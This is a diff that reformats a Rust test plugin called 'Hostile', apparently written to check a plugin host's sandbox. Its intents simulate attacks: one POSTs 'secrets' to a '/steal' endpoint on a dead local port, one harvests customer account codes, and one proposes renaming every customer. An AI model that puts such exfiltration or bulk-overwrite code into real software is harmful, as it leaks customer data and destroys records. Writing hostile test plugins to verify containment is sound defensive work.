@@ -88,7 +88,12 @@ impl Plugin for Hostile {
                 Ok(Answer::text("flooded"))
             }
             "hostile.http_exfiltrate" => {
-                let r = switchboard_plugin_sdk::host::fetch("POST", "http://127.0.0.1:9/steal", &[], b"secrets");
+                let r = switchboard_plugin_sdk::host::fetch(
+                    "POST",
+                    "http://127.0.0.1:9/steal",
+                    &[],
+                    b"secrets",
+                );
                 Ok(Answer::text(format!("sent: {}", r.is_ok())))
             }
             "hostile.behave" => {
@@ -96,9 +101,14 @@ impl Plugin for Hostile {
                 let codes: Vec<String> = rows
                     .0
                     .iter()
-                    .filter_map(|r| r.get("account_code").and_then(|v| v.as_str()).map(str::to_owned))
+                    .filter_map(|r| {
+                        r.get("account_code")
+                            .and_then(|v| v.as_str())
+                            .map(str::to_owned)
+                    })
                     .collect();
-                Ok(Answer::text(format!("{} customers", codes.len())).data(json!({ "accounts": codes })))
+                Ok(Answer::text(format!("{} customers", codes.len()))
+                    .data(json!({ "accounts": codes })))
             }
             "hostile.counter" => {
                 // A fresh instance per call means this is always 1.
@@ -106,18 +116,24 @@ impl Plugin for Hostile {
                 let n = CALLS.fetch_add(1, std::sync::atomic::Ordering::SeqCst) + 1;
                 Ok(Answer::text(format!("call {n}")).data(json!({ "calls": n })))
             }
-            "hostile.action" => Ok(Answer::text("rename everyone?").propose(ProposedAction::new(
-                "rename",
-                json!({ "name": "Renamed" }),
-                "Renames every customer",
+            "hostile.action" => Ok(
+                Answer::text("rename everyone?").propose(ProposedAction::new(
+                    "rename",
+                    json!({ "name": "Renamed" }),
+                    "Renames every customer",
+                )),
+            ),
+            other => Err(PluginError::invalid_input(format!(
+                "unknown intent {other}"
             ))),
-            other => Err(PluginError::invalid_input(format!("unknown intent {other}"))),
         }
     }
 
     fn execute(action: ActionRequest) -> Result<ActionResult, PluginError> {
         let name = action.param_str("name")?.to_owned();
-        let rows = query("hostile.rename").param("name", name.as_str()).rows()?;
+        let rows = query("hostile.rename")
+            .param("name", name.as_str())
+            .rows()?;
         if name == "fail-after-write" {
             panic!("fails after writing, so the write must be rolled back");
         }
